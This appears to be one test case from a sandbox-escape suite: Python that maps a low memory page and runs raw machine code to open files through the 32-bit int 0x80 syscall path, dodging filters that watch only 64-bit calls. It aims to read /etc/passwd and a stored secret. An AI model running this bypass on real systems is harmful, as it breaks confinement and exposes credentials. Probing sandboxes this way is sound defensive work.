# category: kernel
# attack: open a file by a 32-bit call with a path below 4 GB
# kind: stdin
import ctypes, struct
def opened(path):
    raw = libc()
    raw.mmap.restype = ctypes.c_void_p
    raw.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    low = raw.mmap(None, 4096, 3, 0x62, -1, 0)
    if low in (None, 2**64 - 1):
        raise OSError("no low page")
    ctypes.memmove(low, path + b"\0", len(path) + 1)
    code = b"\x53\xb8" + struct.pack("<I", 5) + b"\xbb" + struct.pack("<I", low) + b"\x31\xc9\x31\xd2\xcd\x80\x48\x98\x5b\xc3"
    fd = machine_code(code)
    if fd < 0:
        raise OSError(-fd, "refused")
    return os.read(fd, 100)
attempts("open by int 0x80", opened, [b"/etc/passwd", INFO["secrets"][0].encode()])
